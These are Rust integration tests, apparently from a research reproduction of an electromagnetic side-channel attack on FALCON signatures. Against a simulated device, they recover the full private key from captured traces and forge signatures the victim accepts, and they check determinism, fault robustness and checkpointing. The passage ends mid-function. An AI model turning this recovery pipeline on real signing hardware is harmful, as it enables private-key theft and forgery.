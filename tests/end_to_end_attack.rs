//! Integration: the complete Falcon Down pipeline across all crates —
//! victim keygen → EM capture → extend-and-prune recovery → inverse FFT
//! → NTRU solve → forgery accepted by the victim's verifier.

use falcon_down::dema::attack::{recover_all_verified, AttackConfig};
use falcon_down::dema::recover::key_from_fft_bits;
use falcon_down::dema::Dataset;
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

fn run_pipeline(logn: u32, noise: f64, traces: usize, key_seed: &[u8]) {
    let params = LogN::new(logn).unwrap();
    let n = params.n();
    let mut rng = Prng::from_seed(key_seed);
    let kp = KeyPair::generate(params, &mut rng);
    let vk = kp.verifying_key().clone();
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, noise),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let true_f = kp.signing_key().f().to_vec();
    let mut device = Device::new(kp.into_parts().0, chain, b"e2e bench");

    let targets: Vec<usize> = (0..n).collect();
    let mut msgs = Prng::from_seed(b"e2e messages");
    let ds = Dataset::collect(&mut device, &targets, traces, &mut msgs);

    let results = recover_all_verified(&ds, &AttackConfig::default());
    let correct = results.iter().zip(&truth).filter(|((r, _), &w)| r.bits == w).count();
    assert_eq!(correct, n, "all FFT(f) coefficients must be recovered");

    let bits: Vec<u64> = results.iter().map(|(r, _)| r.bits).collect();
    let rec = key_from_fft_bits(&bits, &vk).expect("key recovery");
    assert_eq!(rec.sk.f(), &true_f, "recovered f must equal the victim's");

    let forged = rec.sk.sign(b"forged by the adversary", &mut msgs);
    assert!(vk.verify(b"forged by the adversary", &forged));
}

#[test]
fn pipeline_n16_moderate_noise() {
    run_pipeline(4, 2.0, 500, b"e2e key n16");
}

#[test]
fn pipeline_n32_low_noise() {
    run_pipeline(5, 1.0, 250, b"e2e key n32");
}

/// The paper's measurement regime (σ calibrated for ~10k-trace budgets)
/// at a reduced degree; slow, therefore ignored by default:
/// `cargo test --release -- --ignored`.
#[test]
#[ignore = "several minutes: paper-calibrated noise needs thousands of traces"]
fn pipeline_paper_noise_regime() {
    run_pipeline(5, 8.6, 9000, b"e2e key paper noise");
}
