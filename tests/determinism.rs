//! Determinism under parallelism: the full FALCON-8 campaign → key
//! recovery pipeline must produce bit-identical results at every worker
//! count of the shared executor.
//!
//! The executor (`falcon_dema::exec`) splits work into fixed chunks
//! addressed by an atomic index and reassembles results in chunk order,
//! so neither the thread count nor the OS scheduler can reorder a single
//! floating-point operation. This test is the end-to-end check of that
//! contract: one campaign at the ambient thread configuration, then the
//! same campaign pinned to 1, 2 and `available_parallelism()` workers,
//! asserting identical recovered keys, identical checkpoint bytes, and
//! thread-count-independent pipeline counters.
//!
//! The sweep is a **kernel × threads matrix**: every thread count is
//! also run with the Pearson tile kernel pinned to the scalar reference
//! (`FALCON_DEMA_SIMD=off` equivalent) and with runtime detection
//! enabled (`auto` — AVX2/NEON where the host has them). The SIMD
//! kernels are bit-identical to the scalar tile by construction (see
//! `cpa::simd`), so the kernel axis, like the thread axis, must not
//! move a single output bit anywhere in campaign → key → forgery →
//! checkpoint.
//!
//! Kept as a single `#[test]` in its own integration binary: the obs
//! metrics registry is process-global, and concurrent tests in the same
//! binary would interleave their counter deltas.

use falcon_down::dema::acquire::Dataset;
use falcon_down::dema::cpa::simd::{self, KernelChoice};
use falcon_down::dema::obs;
use falcon_down::dema::recover::key_from_fft_bits;
use falcon_down::dema::source::ColumnSource;
use falcon_down::dema::stream::{self, RingConfig, StreamedDataset};
use falcon_down::dema::{exec, Campaign, CampaignConfig, OfflineCampaign};
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

/// Counters whose per-campaign deltas must not depend on the worker
/// count. (The `exec.*` scheduling counters — serial/fanout/chunks — are
/// legitimately thread-dependent and deliberately absent.)
const THREAD_INDEPENDENT_COUNTERS: &[&str] = &[
    "attack.correlations",
    "campaign.batches",
    "campaign.converged",
    "screen.requested",
    "screen.kept",
    "screen.dropped_trigger",
    "screen.realigned",
    "screen.winsorized_samples",
];

struct RunOutcome {
    /// Recovered `FFT(f)` bit vector.
    bits: Vec<u64>,
    /// Serialised campaign checkpoint after convergence.
    checkpoint: Vec<u8>,
    /// Deltas of the thread-independent counters over this run.
    counters: Vec<u64>,
}

/// One complete FALCON-8 campaign from fixed seeds: keygen, adaptive
/// screened acquisition, extend-and-prune recovery, NTRU key recovery,
/// and a forgery check against the victim's verifier.
fn run_campaign() -> RunOutcome {
    let before = obs::metrics().snapshot();
    let mut rng = Prng::from_seed(b"determinism key");
    let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
    let vk = kp.verifying_key().clone();
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 1.0),
        lowpass: 0.0,
        scope: Scope { enabled: false, ..Default::default() },
        ..Default::default()
    };
    let mut device = Device::new(kp.into_parts().0, chain, b"determinism bench");
    let mut msgs = Prng::from_seed(b"determinism msgs");
    let cfg = CampaignConfig { batch_size: 60, max_traces: 600, ..Default::default() };
    let mut campaign = Campaign::new(8, cfg).unwrap();
    let report = campaign.run(&mut device, &mut msgs).unwrap();
    assert!(report.is_complete(), "campaign must converge: {report:?}");
    let bits = report.recovered_bits().unwrap();
    assert_eq!(bits, truth, "recovered FFT(f) must match the victim key");

    let rec = key_from_fft_bits(&bits, &vk).expect("NTRU key recovery");
    let forged = rec.sk.sign(b"determinism forgery", &mut msgs);
    assert!(vk.verify(b"determinism forgery", &forged), "forgery must verify");

    let mut checkpoint = Vec::new();
    campaign.write_checkpoint(&device, &msgs, &mut checkpoint).unwrap();
    let after = obs::metrics().snapshot();
    let counters =
        THREAD_INDEPENDENT_COUNTERS.iter().map(|name| after.counter_delta(&before, name)).collect();
    RunOutcome { bits, checkpoint, counters }
}

/// One offline (archive-driven) campaign over any column source:
/// recovery, NTRU key reconstruction, a seeded forgery, and the
/// source-independent offline checkpoint bytes.
fn run_offline<S: ColumnSource + ?Sized>(
    src: &S,
    vk: &falcon_down::sig::VerifyingKey,
) -> (Vec<u64>, Vec<u8>, falcon_down::sig::Signature) {
    let cfg = CampaignConfig { batch_size: 60, max_traces: 600, ..Default::default() };
    let mut campaign = OfflineCampaign::new(src, cfg).unwrap();
    let report = campaign.run(src).unwrap();
    assert!(report.is_complete(), "offline campaign must converge: {report:?}");
    let bits = report.recovered_bits().unwrap();
    let mut checkpoint = Vec::new();
    campaign.write_checkpoint(&mut checkpoint).unwrap();
    let rec = key_from_fft_bits(&bits, vk).expect("NTRU key recovery");
    let mut sig_rng = Prng::from_seed(b"streamed determinism forgery");
    let forged = rec.sk.sign(b"streamed determinism forgery", &mut sig_rng);
    assert!(vk.verify(b"streamed determinism forgery", &forged), "forgery must verify");
    (bits, checkpoint, forged)
}

/// Resident vs streamed matrix: the same archived FALCON-8 capture
/// replayed through the in-memory `Dataset` and through
/// `StreamedDataset` prefetch rings of several depths, at 1 and
/// `available_parallelism()` workers. Campaign, recovered key,
/// checkpoint bytes and forgery must be identical everywhere, and the
/// ring's staging high-water mark must respect `depth × chunk_bytes`.
fn resident_vs_streamed_matrix() {
    let mut rng = Prng::from_seed(b"determinism key");
    let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
    let vk = kp.verifying_key().clone();
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 1.0),
        lowpass: 0.0,
        scope: Scope { enabled: false, ..Default::default() },
        ..Default::default()
    };
    let mut device = Device::new(kp.into_parts().0, chain, b"determinism bench");
    let mut msgs = Prng::from_seed(b"determinism msgs");
    let targets: Vec<usize> = (0..8).collect();
    let ds = Dataset::collect(&mut device, &targets, 600, &mut msgs);

    let dir =
        std::env::temp_dir().join(format!("falcon-determinism-stream-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let archive = dir.join("capture.fdnd");
    falcon_down::dema::io::atomic_write(&archive, |w| falcon_down::dema::io::write_dataset(&ds, w))
        .unwrap();
    let file_len = std::fs::metadata(&archive).unwrap().len();

    let avail = std::thread::available_parallelism().map(|v| v.get()).unwrap_or(1);
    for threads in [1usize, avail] {
        exec::set_threads(threads);
        let (bits, ckpt, forged) = run_offline(&ds, &vk);
        assert_eq!(bits, truth, "resident offline recovery at {threads} thread(s)");
        for depth in [2usize, 4] {
            let ring = RingConfig { chunk_bytes: 4096, depth };
            assert!(
                file_len > ring.capacity_bytes(),
                "the archive ({file_len} B) must exceed the resident ring budget \
                 ({} B) for the out-of-core claim to mean anything",
                ring.capacity_bytes()
            );
            stream::reset_ring_peak();
            let sd = StreamedDataset::open(&archive, ring).unwrap();
            let (sbits, sckpt, sforged) = run_offline(&sd, &vk);
            let what = format!("streamed at {threads} thread(s), ring depth {depth}");
            assert_eq!(sbits, bits, "recovered key must be bit-identical {what}");
            assert_eq!(sckpt, ckpt, "offline checkpoint bytes must be identical {what}");
            assert_eq!(sforged, forged, "forgery must be identical {what}");
            let peak = obs::gauge("stream.ring_peak_bytes").get();
            assert!(
                peak > 0.0 && peak <= ring.capacity_bytes() as f64,
                "ring peak {peak} B must be within (0, {} B] {what}",
                ring.capacity_bytes()
            );
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn campaign_is_bit_identical_across_thread_counts() {
    // Restore the ambient configuration even if an assertion fires
    // mid-sweep (other processes reuse this binary's exit state only via
    // the env var, but in-process reruns must not inherit a pin).
    struct ClearOverride;
    impl Drop for ClearOverride {
        fn drop(&mut self) {
            exec::set_threads(0);
            simd::set_kernel(None);
        }
    }
    let _clear = ClearOverride;

    // Baseline at the ambient thread and kernel configuration (honours
    // FALCON_DEMA_THREADS and FALCON_DEMA_SIMD — CI sweeps both).
    let baseline = run_campaign();

    let avail = std::thread::available_parallelism().map(|v| v.get()).unwrap_or(1);
    let compare = |run: &RunOutcome, what: &str| {
        assert_eq!(run.bits, baseline.bits, "recovered key must be bit-identical {what}");
        assert_eq!(
            run.checkpoint, baseline.checkpoint,
            "checkpoint bytes must be identical {what}"
        );
        for (name, (got, want)) in
            THREAD_INDEPENDENT_COUNTERS.iter().zip(run.counters.iter().zip(&baseline.counters))
        {
            assert_eq!(got, want, "counter {name} must be configuration-independent {what}");
        }
    };

    for threads in [1usize, 2, avail] {
        exec::set_threads(threads);
        let run = run_campaign();
        compare(&run, &format!("at {threads} thread(s)"));
    }

    // Kernel × threads: the scalar reference and the auto-detected SIMD
    // kernel at single- and max-threaded execution. On a host without
    // AVX2/NEON both legs run the scalar tile — still a valid (if
    // degenerate) instance of the contract, and CI additionally sweeps
    // the env var so the off/auto split is always exercised somewhere.
    for kernel in [KernelChoice::Off, KernelChoice::Auto] {
        for threads in [1usize, avail] {
            simd::set_kernel(Some(kernel));
            exec::set_threads(threads);
            let run = run_campaign();
            compare(&run, &format!("with kernel {kernel:?} at {threads} thread(s)"));
        }
    }
    simd::set_kernel(None);

    // Source axis: the identical capture replayed from memory and from
    // a chunk-streamed archive must agree bit-for-bit too (same test
    // binary — the obs registry is process-global).
    resident_vs_streamed_matrix();
}
