//! Robustness integration: the full attack pipeline on a faulty bench.
//!
//! The paper's numbers assume a clean acquisition; these tests drive the
//! adaptive campaign against a device that drops triggers, jitters its
//! scope window and injects glitch bursts, and check that
//!
//! * the screened campaign still recovers the complete private key and
//!   forges signatures, within the trace budget;
//! * the unscreened baseline does *not* recover the key at the same
//!   budget — and fails gracefully with a typed (partial or wrong)
//!   report instead of panicking;
//! * checkpoint/resume is exact: a campaign killed at any batch
//!   boundary and resumed from its checkpoint file produces a
//!   bit-identical report, and truncated checkpoints are rejected with
//!   errors at every cut point;
//! * everything is deterministic from the seeds.

use falcon_down::dema::recover::key_from_fft_bits;
use falcon_down::dema::{Campaign, CampaignConfig, Dataset, ScreenConfig};
use falcon_down::emsim::{Device, FaultModel, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN, VerifyingKey};

/// The ISSUE's reference fault regime: 5 % dropout, ±2-sample jitter on
/// a fifth of the captures, 1 % glitch bursts.
fn reference_faults() -> FaultModel {
    FaultModel {
        drop_prob: 0.05,
        jitter_prob: 0.20,
        max_jitter: 2,
        glitch_prob: 0.01,
        glitch_amplitude: 60.0,
        glitch_len: 5,
        ..Default::default()
    }
}

fn faulty_bench(logn: u32, key_seed: &[u8]) -> (Device, VerifyingKey, Vec<u64>) {
    let params = LogN::new(logn).unwrap();
    let mut rng = Prng::from_seed(key_seed);
    let kp = KeyPair::generate(params, &mut rng);
    let vk = kp.verifying_key().clone();
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 2.0),
        lowpass: 0.0,
        scope: Scope::default(),
        faults: reference_faults(),
    };
    (Device::new(kp.into_parts().0, chain, b"robustness bench"), vk, truth)
}

fn campaign_cfg(screened: bool) -> CampaignConfig {
    CampaignConfig {
        batch_size: 100,
        max_traces: 2500,
        screen: screened.then(ScreenConfig::default),
        ..Default::default()
    }
}

/// Screened campaign on a faulty bench: full key recovery and forgery.
fn screened_recovery(logn: u32) {
    let n = LogN::new(logn).unwrap().n();
    let (mut device, vk, truth) = faulty_bench(logn, b"screened recovery key");
    let mut msgs = Prng::from_seed(b"screened recovery msgs");
    let mut campaign = Campaign::new(n, campaign_cfg(true)).unwrap();
    let report = campaign.run(&mut device, &mut msgs).unwrap();
    assert!(report.is_complete(), "screened campaign must converge: {report:?}");
    let bits = report.recovered_bits().expect("complete campaign yields all bits");
    assert_eq!(bits, truth, "recovered FFT(f) must match ground truth");
    // Fault accounting is visible to the caller.
    assert!(report.stats.dropped_trigger > 0, "dropout regime must drop captures");
    assert!(report.stats.realigned > 0, "jitter regime must trigger realignment");
    // Down the remaining pipeline: inverse FFT, NTRU solve, forgery.
    let rec = key_from_fft_bits(&bits, &vk).expect("key recovery from bits");
    let forged = rec.sk.sign(b"forged on a faulty bench", &mut msgs);
    assert!(vk.verify(b"forged on a faulty bench", &forged));
}

#[test]
fn screened_campaign_recovers_key_logn3() {
    screened_recovery(3);
}

#[test]
fn screened_campaign_recovers_key_logn4() {
    screened_recovery(4);
}

#[test]
fn unscreened_baseline_fails_gracefully() {
    let n = 8;
    let (mut device, _, truth) = faulty_bench(3, b"screened recovery key");
    let mut msgs = Prng::from_seed(b"screened recovery msgs");
    let mut campaign = Campaign::new(n, campaign_cfg(false)).unwrap();
    // Graceful: a typed report, never a panic or an Err from faults.
    let report = campaign.run(&mut device, &mut msgs).unwrap();
    let correct = report
        .statuses
        .iter()
        .filter(|s| s.is_recovered() && s.bits() == truth[s.target()])
        .count();
    assert!(correct < n, "unscreened baseline must not recover the full key at this budget");
    // The report is honest about what happened: either coefficients are
    // flagged unconverged, or the recovered bits are simply wrong — in
    // both cases recovered_bits() cannot reconstruct the true key.
    if let Some(bits) = report.recovered_bits() {
        assert_ne!(bits, truth);
    }
    assert_eq!(report.statuses.len(), n);
    assert!(report.traces_requested <= 2500);
}

#[test]
fn campaign_killed_and_resumed_is_bit_identical() {
    let n = 8;
    let cfg = || CampaignConfig {
        batch_size: 75,
        max_traces: 1200,
        screen: Some(ScreenConfig::default()),
        ..Default::default()
    };
    let tmp = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    std::fs::create_dir_all(&tmp).unwrap();

    // Uninterrupted reference run.
    let (mut dev_a, _, _) = faulty_bench(3, b"resume key");
    let mut msgs_a = Prng::from_seed(b"resume msgs");
    let mut uninterrupted = Campaign::new(n, cfg()).unwrap();
    let reference = uninterrupted.run(&mut dev_a, &mut msgs_a).unwrap();

    // The same campaign, checkpointed at every batch boundary; "kill"
    // it after each batch in turn and resume from the file.
    let total_batches = {
        let (mut d, _, _) = faulty_bench(3, b"resume key");
        let mut m = Prng::from_seed(b"resume msgs");
        let mut c = Campaign::new(n, cfg()).unwrap();
        let mut batches = 0;
        while c.step(&mut d, &mut m).unwrap() {
            batches += 1;
        }
        batches
    };
    assert!(total_batches >= 2, "need at least two batches to test resume");

    for kill_after in 1..=total_batches {
        let ckpt = tmp.join(format!("campaign-{kill_after}.ckpt"));
        // Run to the kill point, checkpointing as a real campaign would.
        let (mut d, _, _) = faulty_bench(3, b"resume key");
        let mut m = Prng::from_seed(b"resume msgs");
        let mut c = Campaign::new(n, cfg()).unwrap();
        for _ in 0..kill_after {
            assert!(c.step(&mut d, &mut m).unwrap());
        }
        c.checkpoint(&d, &m, &ckpt).unwrap();
        drop((c, d, m)); // the "kill"

        // Resume into a freshly reconstructed bench.
        let (mut d2, _, _) = faulty_bench(3, b"resume key");
        let mut m2 = Prng::from_seed(b"a different stream, rewound by resume");
        let mut resumed = Campaign::resume_from_path(cfg(), &mut d2, &mut m2, &ckpt).unwrap();
        let report = resumed.run(&mut d2, &mut m2).unwrap();
        assert_eq!(
            report, reference,
            "resume after batch {kill_after}/{total_batches} must be bit-identical"
        );
        std::fs::remove_file(&ckpt).unwrap();
    }
}

#[test]
fn checkpoint_truncated_at_every_byte_errors_cleanly() {
    let n = 8;
    let cfg = CampaignConfig {
        batch_size: 20,
        max_traces: 40,
        targets: vec![0, 5],
        screen: Some(ScreenConfig::default()),
        ..Default::default()
    };
    let (mut dev, _, _) = faulty_bench(3, b"truncation key");
    let mut msgs = Prng::from_seed(b"truncation msgs");
    let mut c = Campaign::new(n, cfg.clone()).unwrap();
    while c.step(&mut dev, &mut msgs).unwrap() {}
    let mut buf = Vec::new();
    c.write_checkpoint(&dev, &msgs, &mut buf).unwrap();

    // The complete checkpoint parses...
    let (mut d_ok, _, _) = faulty_bench(3, b"truncation key");
    let mut m_ok = Prng::from_seed(b"x");
    assert!(Campaign::resume(cfg.clone(), &mut d_ok, &mut m_ok, &buf[..]).is_ok());

    // ...and every proper prefix is rejected with an error, not a panic
    // or a hang (and never a partially-restored campaign).
    for cut in 0..buf.len() {
        let (mut d, _, _) = faulty_bench(3, b"truncation key");
        let mut m = Prng::from_seed(b"x");
        let r = Campaign::resume(cfg.clone(), &mut d, &mut m, &buf[..cut]);
        assert!(r.is_err(), "truncation at byte {cut}/{} must fail", buf.len());
    }
}

#[test]
fn same_seeds_are_bit_identical() {
    // Dataset level: two screened acquisitions from identically seeded
    // benches serialise to the same bytes.
    let collect = || {
        let (mut d, _, _) = faulty_bench(3, b"determinism key");
        let mut m = Prng::from_seed(b"determinism msgs");
        let (ds, stats) = Dataset::collect_screened(
            &mut d,
            &[0, 2, 5],
            120,
            &mut m,
            Some(&ScreenConfig::default()),
        )
        .unwrap();
        let mut bytes = Vec::new();
        falcon_down::dema::io::write_dataset(&ds, &mut bytes).unwrap();
        (bytes, stats)
    };
    let (bytes_a, stats_a) = collect();
    let (bytes_b, stats_b) = collect();
    assert_eq!(bytes_a, bytes_b, "screened datasets must be bit-identical");
    assert_eq!(stats_a, stats_b);

    // Campaign level: identical reports, including the fault accounting.
    let run = || {
        let (mut d, _, _) = faulty_bench(3, b"determinism key");
        let mut m = Prng::from_seed(b"determinism msgs");
        Campaign::new(8, campaign_cfg(true)).unwrap().run(&mut d, &mut m).unwrap()
    };
    assert_eq!(run(), run());
}
