//! Integration tests at the paper's parameter set, FALCON-512
//! (and FALCON-1024 for the §IV remark that the attack carries over).
//!
//! Key generation solves a full NTRU equation (seconds in release mode),
//! so the heavier cases are `#[ignore]`d; run them with
//! `cargo test --release -- --ignored`.

use falcon_down::dema::attack::{recover_coefficient, AttackConfig};
use falcon_down::dema::Dataset;
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

#[test]
#[ignore = "~1 min: full FALCON-512 keygen + sign/verify"]
fn falcon_512_sign_verify() {
    let mut rng = Prng::from_seed(b"falcon512 integration");
    let kp = KeyPair::generate(LogN::N512, &mut rng);
    for msg in [b"a".as_slice(), b"longer message for falcon-512"] {
        let sig = kp.signing_key().sign(msg, &mut rng);
        assert!(kp.verifying_key().verify(msg, &sig));
        assert_eq!(sig.to_bytes().len(), 666);
    }
    // Private polynomials have the documented coefficient range.
    assert!(kp.signing_key().f().iter().all(|&c| (-127..=127).contains(&c)));
    assert!(kp.signing_key().g().iter().all(|&c| (-127..=127).contains(&c)));
}

#[test]
#[ignore = "~2 min: FALCON-512 coefficient extraction via side channel"]
fn falcon_512_coefficient_extraction() {
    let mut rng = Prng::from_seed(b"falcon512 attack");
    let kp = KeyPair::generate(LogN::N512, &mut rng);
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 2.0),
        lowpass: 0.0,
        scope: Scope::default(),
        ..Default::default()
    };
    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
    let mut device = Device::new(kp.into_parts().0, chain, b"falcon512 bench");
    let targets = [0usize, 100, 255, 511];
    let mut msgs = Prng::from_seed(b"falcon512 messages");
    let ds = Dataset::collect(&mut device, &targets, 800, &mut msgs);
    let cfg = AttackConfig::default();
    for &t in &targets {
        let r = recover_coefficient(&ds, t, &cfg);
        assert_eq!(r.bits, truth[t], "coefficient {t}");
    }
}

#[test]
#[ignore = "~4 min: FALCON-1024 keygen exercises the deepest NTRU tower"]
fn falcon_1024_sign_verify() {
    let mut rng = Prng::from_seed(b"falcon1024 integration");
    let kp = KeyPair::generate(LogN::N1024, &mut rng);
    let sig = kp.signing_key().sign(b"falcon-1024 message", &mut rng);
    assert!(kp.verifying_key().verify(b"falcon-1024 message", &sig));
    assert_eq!(sig.to_bytes().len(), 1280);
}
