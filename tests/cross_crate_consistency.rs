//! Integration: consistency properties that span crate boundaries.

use falcon_down::dema::model::{hyp_exact, KnownOperand};
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
use falcon_down::fpr::{Fpr, RecordingObserver};
use falcon_down::sig::fft::fft;
use falcon_down::sig::hash::hash_to_point;
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};

fn quiet_device(logn: u32, seed: &[u8]) -> Device {
    let mut rng = Prng::from_seed(seed);
    let kp = KeyPair::generate(LogN::new(logn).unwrap(), &mut rng);
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 0.0),
        lowpass: 0.0,
        scope: Scope { enabled: false, ..Default::default() },
        ..Default::default()
    };
    Device::new(kp.into_parts().0, chain, b"consistency bench")
}

/// The adversary's recomputation of FFT(c) from the public salt and
/// message must equal the device's, bit for bit — the known-plaintext
/// premise of the whole attack.
#[test]
#[allow(clippy::needless_range_loop)] // secret is the targeted flat index
fn adversary_recomputes_known_operands_bit_exactly() {
    let mut dev = quiet_device(4, b"consistency key");
    let layout = dev.layout();
    let n = 16;
    let cap = dev.capture(b"known plaintext");
    let c = hash_to_point(&cap.salt, &cap.msg, n);
    let mut c_fft: Vec<Fpr> = c.iter().map(|&v| Fpr::from_i64(v as i64)).collect();
    fft(&mut c_fft);
    // With a noiseless chain, every sample equals the HW of the micro-op
    // word computed from (secret ground truth, recomputed known operand).
    let f_fft = dev.signing_key().f_fft().to_vec();
    for secret in 0..n {
        for (mul_idx, known_idx) in layout.muls_for_secret(secret) {
            let k = KnownOperand::new(c_fft[known_idx].to_bits());
            for step in StepKind::ALL {
                let want = hyp_exact(f_fft[secret].to_bits(), &k, step);
                let got = cap.trace.samples[layout.sample_index(mul_idx, step)] as f64;
                assert_eq!(got, want, "secret {secret} mul {mul_idx} step {step:?}");
            }
        }
    }
}

/// The signing path's traced multiplication must cover the same
/// micro-ops, in the same order, as the device's capture fast path.
#[test]
fn sign_traced_layout_matches_device_capture() {
    let mut rng = Prng::from_seed(b"layout key");
    let kp = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
    let mut obs = RecordingObserver::new();
    let _sig = kp.signing_key().sign_traced(b"layout probe", &mut rng, &mut obs);
    let n = 16;
    // One begin_coefficient per real multiplication, cycling through the
    // secret flat indices in the documented order.
    let per_pass = (n / 2) * 4;
    assert_eq!(obs.boundaries.len() % per_pass, 0);
    for j in 0..n / 2 {
        let (idx0, _) = obs.boundaries[4 * j];
        let (idx1, _) = obs.boundaries[4 * j + 1];
        let (idx2, _) = obs.boundaries[4 * j + 2];
        let (idx3, _) = obs.boundaries[4 * j + 3];
        assert_eq!((idx0, idx1, idx2, idx3), (j, j + n / 2, j, j + n / 2));
    }
    // 14 steps per multiplication.
    assert_eq!(obs.steps.len() % (obs.boundaries.len() * 14), 0);
}

/// Signatures produced under observation are indistinguishable from
/// unobserved ones (the probe is passive).
#[test]
fn observation_does_not_change_signatures() {
    let mut rng_a = Prng::from_seed(b"passive probe");
    let mut rng_b = Prng::from_seed(b"passive probe");
    let kp_a = KeyPair::generate(LogN::new(4).unwrap(), &mut rng_a);
    let kp_b = KeyPair::generate(LogN::new(4).unwrap(), &mut rng_b);
    let mut obs = RecordingObserver::new();
    let sig_plain = kp_a.signing_key().sign(b"m", &mut rng_a);
    let sig_traced = kp_b.signing_key().sign_traced(b"m", &mut rng_b, &mut obs);
    assert_eq!(sig_plain, sig_traced);
    assert!(!obs.steps.is_empty());
}

/// Device captures for the same (salt, message) are the same computation
/// regardless of countermeasure shuffling — only emission order differs.
#[test]
fn capture_values_are_permutation_invariant() {
    use falcon_down::emsim::CountermeasureConfig;
    let mut plain = quiet_device(4, b"perm key");
    let mut rng = Prng::from_seed(b"perm key");
    let kp = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
    let chain = MeasurementChain {
        model: LeakageModel::hamming_weight(1.0, 0.0),
        lowpass: 0.0,
        scope: Scope { enabled: false, ..Default::default() },
        ..Default::default()
    };
    let mut shuffled =
        Device::new(kp.into_parts().0, chain, b"consistency bench").with_countermeasures(
            CountermeasureConfig { shuffle: true, extra_noise_sigma: 0.0, masking: false },
        );
    let salt = [3u8; 40];
    let a = plain.capture_with_salt(&salt, b"m");
    let b = shuffled.capture_with_salt(&salt, b"m");
    let mut sa = a.samples.clone();
    let mut sb = b.samples.clone();
    sa.sort_by(f32::total_cmp);
    sb.sort_by(f32::total_cmp);
    assert_eq!(sa, sb);
}

/// FALCON parameters, hash, and verification glue: a signature moved
/// between parameter sets or keys must not verify.
#[test]
fn cross_key_and_parameter_rejection() {
    let mut rng = Prng::from_seed(b"cross keys");
    let kp4 = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
    let kp4b = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
    let sig = kp4.signing_key().sign(b"msg", &mut rng);
    assert!(kp4.verifying_key().verify(b"msg", &sig));
    assert!(!kp4b.verifying_key().verify(b"msg", &sig));
    let bytes = sig.to_bytes();
    let parsed = falcon_down::sig::Signature::from_bytes(&bytes).unwrap();
    assert!(kp4.verifying_key().verify(b"msg", &parsed));
}
