//! Closed-loop validation of the static leakage-site map: the ranking
//! produced by `falcon-ct`'s sites pass must agree with what the attack
//! stack can actually exploit.
//!
//! Three claims, checked end to end on a seeded FALCON-8 campaign:
//!
//! 1. The #1-ranked static site is the secret-mantissa partial-product
//!    multiply inside `Fpr::mul_observed` — the operation the DAC'21
//!    CPA keys on — and every `ct_dyn` primitive has a statically
//!    predicted site (the map is a superset of the dynamic checker).
//! 2. A CPA pointed at the top-ranked site's recorded step recovers the
//!    signing key outright (full extend-and-prune pipeline → forgery).
//! 3. The *same trace budget* spent at a site the map ranks at the
//!    bottom (the 1-bit `SignXor` word) cannot distinguish the secret:
//!    the ranking is not just ordering noise, it predicts exploitability.

use falcon_down::ct::dyncheck::PRIMITIVE_FNS;
use falcon_down::ct::sites::covers_primitive;
use falcon_down::ct::{CallGraph, SiteKind, SiteMap, TaintMap};
use falcon_down::dema::attack::{recover_all_verified, AttackConfig};
use falcon_down::dema::model::{hyp_exact, KnownOperand};
use falcon_down::dema::recover::key_from_fft_bits;
use falcon_down::dema::Dataset;
use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
use falcon_down::sig::rng::Prng;
use falcon_down::sig::{KeyPair, LogN};
use std::path::Path;

fn workspace_root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn static_site_map() -> SiteMap {
    let graph = CallGraph::build(workspace_root()).expect("build call graph");
    let taint = TaintMap::compute(&graph);
    SiteMap::compute(&graph, &taint)
}

/// Claim 1: the static map points at the paper's attack surface.
#[test]
fn static_map_predicts_the_attack_point_and_covers_ct_dyn() {
    let graph = CallGraph::build(workspace_root()).expect("build call graph");
    let taint = TaintMap::compute(&graph);
    let map = SiteMap::compute(&graph, &taint);

    let top = map.top().expect("workspace has leakage sites");
    assert_eq!(
        top.kind,
        SiteKind::MantissaMul,
        "top site is [{}], not the mantissa multiply",
        top.kind
    );
    assert_eq!(top.file, "crates/fpr/src/mul.rs");
    assert!(top.qual.contains("mul_observed"), "top site in {}", top.qual);
    assert!(top.step.is_some(), "mantissa site must carry its recorded observer step");

    let missing: Vec<&str> = PRIMITIVE_FNS
        .iter()
        .filter(|(_, fns)| !covers_primitive(&graph, &taint, fns))
        .map(|(name, _)| *name)
        .collect();
    assert!(missing.is_empty(), "ct_dyn primitives outside the static map: {missing:?}");
}

fn collect_falcon8(noise: f64, traces: usize) -> (Dataset, Vec<u64>, KeyPair) {
    let params = LogN::new(3).unwrap(); // FALCON-8
    let n = params.n();
